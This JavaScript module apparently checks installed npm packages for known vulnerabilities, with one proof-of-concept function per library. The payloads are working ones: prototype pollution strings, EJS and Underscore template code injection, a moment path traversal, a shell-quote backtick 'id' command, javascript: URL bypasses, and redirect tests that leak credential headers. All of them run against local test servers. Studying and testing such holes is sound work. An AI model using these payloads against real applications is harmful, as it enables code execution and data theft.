/**
 * Further real holes in npm packages, other than slow regular expressions.
 *
 * In the form of the shared corpus: `setup(library, require)` keeps what an application keeps, `poc(context)` tries the hole on exactly that.
 */
"use strict";
const http = require("node:http");

const clean = (key) => {
  const value = {}[key];
  for (const owner of [Object, Function, Array, String, Number]) delete owner.prototype[key];
  return value;
};
/** Whether the action pollutes the prototype of all objects. */
const pollutes = (action, key = "polluted") => {
  try {
    action();
  } catch {
    // Throwing is the fix of some packages.
  }
  return { vuln: Boolean(clean(key)) };
};
const attempt = (action) => {
  try {
    return action();
  } catch (error) {
    return { error };
  }
};
let count = 0;
/** Another text each time, for packages that keep their answers. */
const fresh = () => `${++count}`;
const serve = (handler) =>
  new Promise((resolve) => {
    const server = http.createServer(handler).listen(0, "127.0.0.1", () => resolve(server));
  });
const end = (...servers) => {
  for (const server of servers) {
    server.closeAllConnections();
    server.close();
  }
};
/** A server that redirects to another host name, and what the second one got. */
const redirected = async (request, header) => {
  let seen;
  const second = await serve((message, response) => {
    seen = message.headers[header];
    response.end("ok");
  });
  const first = await serve((_message, response) => {
    response.writeHead(302, { location: `http://localhost:${second.address().port}/` });
    response.end();
  });
  try {
    await request(`http://127.0.0.1:${first.address().port}/`);
  } catch (error) {
    return { vuln: seen === undefined ? null : seen === "secret", info: `${error.message} ${error.cause}` };
  } finally {
    end(first, second);
  }
  return { vuln: seen === "secret", info: String(seen) };
};
const json = (value) => JSON.stringify(value);

module.exports = {
  "axios-url": {
    setup: (library) => ({ client: library.create({ timeout: 2000 }) }),
    poc: async ({ client }) => {
      let reached = false;
      const server = await serve((_message, response) => {
        reached = true;
        response.end("secret");
      });
      await client.get(`//127.0.0.1:${server.address().port}/`).catch(() => undefined);
      end(server);
      return { vuln: reached };
    },
  },
  "axios-absolute": {
    setup: (library) => ({
      client: library.create({ baseURL: "http://127.0.0.1:9/", allowAbsoluteUrls: false, timeout: 2000 }),
    }),
    poc: async ({ client }) => {
      let reached = false;
      const server = await serve((_message, response) => {
        reached = true;
        response.end("ok");
      });
      await client.get(`http://127.0.0.1:${server.address().port}/`).catch(() => undefined);
      end(server);
      return { vuln: reached };
    },
  },
  "node-fetch": {
    setup: (library) => ({ fetch: library }),
    poc: ({ fetch }) => redirected((url) => fetch(url, { headers: { authorization: "secret" } }), "authorization"),
  },
  "body-parser": {
    setup: (library) => ({ middleware: library.urlencoded({ extended: true }) }),
    poc: ({ middleware }) =>
      new Promise((resolve) => {
        const body = `a${"[b]".repeat(60)}=1`;
        const { Readable } = require("node:stream");
        const request = Object.assign(Readable.from([Buffer.from(body)]), {
          headers: { "content-type": "application/x-www-form-urlencoded", "content-length": String(body.length) },
        });
        middleware(request, {}, (error) => {
          let depth = 0;
          for (let value = request.body?.a; typeof value === "object"; value = Object.values(value)[0]) depth++;
          resolve({ vuln: error === undefined && depth > 40, info: `${error} ${depth}` });
        });
      }),
  },
  qs: {
    setup: (library) => ({ parse: library.parse }),
    poc: ({ parse }) => {
      const value = parse("a[x]=1&a[__proto__]=y&a[length]=100000000", { allowPrototypes: true });
      const plain = parse("categories[__proto__]=cats&categories[__proto__]=dogs&categories[some][json]=toInject", {
        allowPrototypes: true,
      });
      return {
        vuln: Array.isArray(Object.getPrototypeOf(plain.categories)) || Array.isArray(Object.getPrototypeOf(value.a)),
        info: json(plain),
      };
    },
  },
  ejs: {
    setup: (library) => ({ render: library.render }),
    poc: ({ render }) => {
      globalThis.PW = 0;
      attempt(() => render("x", {}, { outputFunctionName: "x;globalThis.PW=1;s" }));
      return { vuln: globalThis.PW === 1 };
    },
  },
  "ejs-escape": {
    setup: (library) => ({ render: library.render }),
    poc: ({ render }) => {
      globalThis.PW = 0;
      Object.prototype.client = true;
      Object.prototype.escapeFunction = "1;globalThis.PW=1;";
      attempt(() => render("x", {}, {}));
      delete Object.prototype.client;
      delete Object.prototype.escapeFunction;
      return { vuln: globalThis.PW === 1 };
    },
  },
  ini: {
    setup: (library) => ({ parse: library.parse }),
    poc: ({ parse }) => pollutes(() => parse("[__proto__]\npolluted = 1\n")),
  },
  underscore: {
    setup: (library) => ({ template: library.template }),
    poc: ({ template }) => {
      globalThis.PW = 0;
      attempt(() => template("", { variable: "a = globalThis.PW = 1" })());
      return { vuln: globalThis.PW === 1 };
    },
  },
  "set-value": {
    setup: (library) => ({ set: library }),
    poc: ({ set }) => pollutes(() => set({}, [["__proto__"], "polluted"], 1)),
  },
  nanoid: {
    setup: (library) => ({ nanoid: library.nanoid, customAlphabet: library.customAlphabet }),
    poc: ({ nanoid }) => {
      nanoid(0.5);
      const length = attempt(() => nanoid(1.5)).length;
      attempt(() => nanoid(-1.5));
      const ids = new Set(
        Array.from({ length: 5 }, () => {
          nanoid(0.1);
          return nanoid();
        }),
      );
      return { vuln: [...ids].some((id) => /undefined/.test(id)) || length !== 1, info: `${length} ${[...ids][0]}` };
    },
  },
  "nanoid-esm": {
    esm: 1,
    setup: (library) => ({ nanoid: library.nanoid }),
    poc: (context) => module.exports.nanoid.poc(context),
  },
  immer: {
    setup: (library) => ({ applyPatches: library.applyPatches, enable: library.enablePatches() }),
    poc: ({ applyPatches }) =>
      pollutes(() => applyPatches({}, [{ op: "add", path: [["__proto__"], "polluted"], value: 1 }])),
  },
  async: {
    setup: (library) => ({ mapValues: library.mapValues }),
    poc: async ({ mapValues }) => {
      const result = await new Promise((resolve) =>
        mapValues(
          JSON.parse('{"__proto__":{"polluted":1}}'),
          (value, _key, done) => done(null, value),
          (_error, value) => resolve(value),
        ),
      );
      return { vuln: result.polluted === 1 };
    },
  },
  "loader-utils": {
    setup: (library) => ({ parseQuery: library.parseQuery }),
    poc: ({ parseQuery }) => ({
      vuln: attempt(() => parseQuery("?__proto__=x")) && Object.getPrototypeOf(parseQuery("?a=1")) !== null,
    }),
  },
  "property-expr": {
    setup: (library) => ({ setter: library.setter }),
    poc: ({ setter }) => pollutes(() => setter("constructor.prototype.polluted")({}, 1)),
  },
  flat: {
    setup: (library) => ({ unflatten: library.unflatten }),
    poc: ({ unflatten }) => pollutes(() => unflatten({ "__proto__.polluted": 1 })),
  },
  protobufjs: {
    setup: (library) => ({ library, util: library.util }),
    poc: ({ util }) => pollutes(() => util.setProperty({}, "__proto__.polluted", 1)),
  },
  send: {
    setup: (library) => ({ send: library }),
    poc: async ({ send }) => {
      const folder = require("node:fs").mkdtempSync(`${require("node:os").tmpdir()}/send-`);
      require("node:fs").mkdirSync(`${folder}/<b>`);
      const server = await serve((request, response) =>
        send(request, decodeURI(request.url), { root: folder }).pipe(response),
      );
      const text = await new Promise((resolve) => {
        send({ method: "GET", url: "/", headers: {} }, "/%3Cb%3E", { root: folder })
          .on("error", (error) => resolve(String(error)))
          .pipe(
            Object.assign(new (require("node:events"))(), {
              headers: {},
              setHeader(name, value) {
                this.headers[name] = value;
              },
              getHeader(name) {
                return this.headers[name];
              },
              removeHeader() {},
              getHeaderNames() {
                return Object.keys(this.headers);
              },
              end: (body) => resolve(String(body)),
            }),
          );
      });
      end(server);
      require("node:fs").rmSync(folder, { recursive: true });
      return { vuln: /<a href=/.test(text), info: text.slice(0, 200) };
    },
  },
  cookie: {
    setup: (library) => ({ serialize: library.serialize }),
    poc: ({ serialize }) => ({
      vuln: attempt(() => serialize("a=<script>alert(1)</script>", "x")).error === undefined,
    }),
  },
  "form-data": {
    setup: (library) => ({ FormData: library, form: new library() }),
    poc: ({ FormData, form }) => {
      const random = Math.random;
      let asked = false;
      Math.random = () => {
        asked = true;
        return random();
      };
      try {
        delete form._boundary;
        form.getBoundary();
        new FormData().getBoundary();
      } finally {
        Math.random = random;
      }
      return { vuln: asked };
    },
  },
  "socket.io-parser": {
    setup: (library) => ({ decoder: new library.Decoder(), Decoder: library.Decoder }),
    poc: ({ decoder, Decoder }) => {
      const taken = [decoder, new Decoder()].map((one) => {
        let got = false;
        one.on("decoded", () => {
          got = true;
        });
        attempt(() => one.add('2[{"toString":"foo"}]'));
        return got;
      });
      return { vuln: taken.some(Boolean), info: json(taken) };
    },
  },
  ip: {
    setup: (library) => ({ isPublic: library.isPublic, isPrivate: library.isPrivate }),
    poc: ({ isPublic }) => ({ vuln: isPublic("0x7f.1") === true }),
  },
  netmask: {
    setup: (library) => ({ Netmask: library.Netmask }),
    poc: ({ Netmask }) => ({
      vuln: attempt(() => new Netmask("010.0.0.0/8").base) !== "8.0.0.0",
      info: String(attempt(() => new Netmask("010.0.0.0/8").base)),
    }),
  },
  xmldom: {
    setup: (library) => ({ parser: new library.DOMParser({ errorHandler: () => undefined }) }),
    poc: ({ parser }) => {
      const document = attempt(() => parser.parseFromString("<a/><b/>", "text/xml"));
      const roots = document?.childNodes
        ? Array.from({ length: document.childNodes.length }, (_, index) => document.childNodes[index]).filter(
            ({ nodeType }) => nodeType === 1,
          ).length
        : 0;
      return { vuln: roots > 1, info: String(roots) };
    },
  },
  got: {
    setup: (library) => ({ got: library.extend({ retry: 0 }) }),
    poc: async ({ got }) => {
      const path = `${require("node:os").tmpdir()}/got-${process.pid}-${fresh()}.sock`;
      let reached = false;
      const inner = await new Promise((resolve) => {
        const server = http
          .createServer((_message, response) => {
            reached = true;
            response.end("secret");
          })
          .listen(path, () => resolve(server));
      });
      const outer = await serve((_message, response) => {
        response.writeHead(302, { location: `http://unix:${path}:/` });
        response.end();
      });
      await got(`http://127.0.0.1:${outer.address().port}/`).catch(() => undefined);
      end(inner, outer);
      return { vuln: reached };
    },
  },
  elliptic: {
    setup: (library) => ({ ec: new library.ec("secp256k1"), eddsa: new library.eddsa("ed25519") }),
    poc: ({ eddsa }) => {
      const key = eddsa.keyFromSecret("693e3c00000000000000000000000000000000000000000000000000000000ff");
      const signature = key.sign("aabb").toHex();
      const longer = attempt(() => key.verify("aabb", `${signature}00`));
      return { vuln: longer === true, info: String(longer) };
    },
  },
  "node-forge": {
    setup: (library) => ({ util: library.util }),
    poc: ({ util }) => pollutes(() => util.setPath({}, ["__proto__", "polluted"], 1)),
  },
  ws8: {
    setup: (library) => ({ wss: new library.WebSocketServer({ port: 0, host: "127.0.0.1" }) }),
    poc: ({ wss }) =>
      new Promise((resolve) => {
        const request = {
          method: "GET",
          headers: { "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==", "sec-websocket-version": "13" },
          url: "/",
        };
        const socket = Object.assign(
          new (require("node:stream").Duplex)({
            read() {},
            write(_chunk, _encoding, done) {
              done();
            },
          }),
          { setTimeout() {}, setNoDelay() {} },
        );
        try {
          wss.handleUpgrade(request, socket, Buffer.alloc(0), () => {});
          resolve({ vuln: false });
        } catch (error) {
          resolve({ vuln: /toLowerCase|undefined/.test(error.message), info: error.message });
        }
      }),
  },
  "validator-url": {
    setup: (library) => ({ isURL: library.isURL }),
    poc: ({ isURL }) => ({
      vuln: isURL("javascript:alert(1);a=';@example.com/alert(1)'", { require_protocol: false }) === true,
    }),
  },
  "yargs-parser": {
    setup: (library) => ({ parse: library }),
    poc: ({ parse }) => pollutes(() => parse("--foo.__proto__.polluted 1")),
  },
  "minimist-ctor": {
    setup: (library) => ({ parse: library }),
    poc: ({ parse }) => pollutes(() => parse("--x.constructor.prototype.polluted 1".split(" "))),
  },
  "lodash-zip": {
    setup: (library) => ({ zip: library.zipObjectDeep }),
    poc: ({ zip }) => pollutes(() => zip(["__proto__.polluted"], [1])),
  },
  "object-path-set": {
    setup: (library) => ({ set: library.set, inherited: library.withInheritedProps }),
    poc: ({ inherited }) => pollutes(() => inherited.set({}, "__proto__.polluted", 1)),
  },
  hoek: {
    setup: (library) => ({ clone: library.clone }),
    poc: ({ clone }) => ({ vuln: clone(JSON.parse('{"__proto__":{"polluted":1}}')).polluted === 1 }),
  },
  extend: {
    setup: (library) => ({ extend: library }),
    poc: ({ extend }) => pollutes(() => extend(true, {}, JSON.parse('{"__proto__":{"polluted":1}}'))),
  },
  mathjs: {
    setup: (library) => ({ config: library.create(library.all).config }),
    poc: ({ config }) => pollutes(() => config(JSON.parse('{"__proto__":{"polluted":1}}'))),
  },
  "shell-quote": {
    setup: (library) => ({ quote: library.quote }),
    poc: ({ quote }) => ({ vuln: quote(["`:`id`"]).startsWith("`"), info: quote(["`:`id`"]) }),
  },
  "json-schema": {
    setup: (library) => ({ validate: library.validate }),
    poc: ({ validate }) =>
      pollutes(() =>
        validate(
          {},
          JSON.parse(
            '{"type":"object","properties":{"__proto__":{"type":"object","properties":{"polluted":{"type":"string","default":"1"}}}}}',
          ),
        ),
      ),
  },
  "simple-get": {
    setup: (library) => ({ get: library }),
    poc: ({ get }) =>
      redirected(
        (url) =>
          new Promise((resolve, reject) =>
            get({ url, headers: { cookie: "secret" } }, (error, response) => {
              if (error) return reject(error);
              response.resume();
              resolve();
            }),
          ),
        "cookie",
      ),
  },
  "url-parse": {
    setup: (library) => ({ Url: library }),
    poc: ({ Url }) => ({ vuln: new Url("\u0008javascript:alert(1)").protocol !== "javascript:" }),
  },
  "js-yaml": {
    setup: (library) => ({ load: library.load }),
    poc: ({ load }) => ({
      vuln:
        load("a: &x\n  __proto__: {polluted: 1}\nb:\n  <<: *x").b.polluted === 1 ||
        attempt(() => load("<<: {__proto__: {polluted: 1}}")).polluted === 1,
    }),
  },
  fastify: {
    setup: (library) => {
      const app = library();
      app.post("/", async () => "ok");
      return app.ready().then(() => ({ app }));
    },
    poc: async ({ app }) => {
      const answer = await Promise.race([
        app
          .inject({ method: "POST", url: "/", headers: { "content-type": "constructor" }, payload: "x" })
          .catch((error) => ({ statusCode: error.message })),
        new Promise((resolve) => setTimeout(resolve, 500, { statusCode: "hangs" })),
      ]);
      return { vuln: answer.statusCode !== 415, info: String(answer.statusCode) };
    },
  },
  "moment-locale": {
    setup: (library) => ({ moment: library }),
    poc: ({ moment }) => {
      globalThis.PW = 0;
      const file = `/tmp/h7-locale-${process.pid}-${fresh()}.js`;
      require("node:fs").writeFileSync(file, "globalThis.PW = 1;");
      attempt(() => moment.locale(`../../../../../../../../../../../../../../..${file.slice(0, -3)}`));
      require("node:fs").rmSync(file);
      return { vuln: globalThis.PW === 1 };
    },
  },
  "undici-fetch": {
    setup: (library) => ({ fetch: library.fetch }),
    poc: ({ fetch }) => redirected((url) => fetch(url, { headers: { cookie: "secret" } }), "cookie"),
  },
  nunjucks: {
    setup: (library) => ({ env: new library.Environment(null, { autoescape: true }) }),
    poc: ({ env }) => {
      const text = env.renderString("{{ '\\\\' | safe }}<a t=\"{{ x }}\">", { x: "\\" });
      return { vuln: !/&#92;/.test(text), info: text };
    },
  },
};
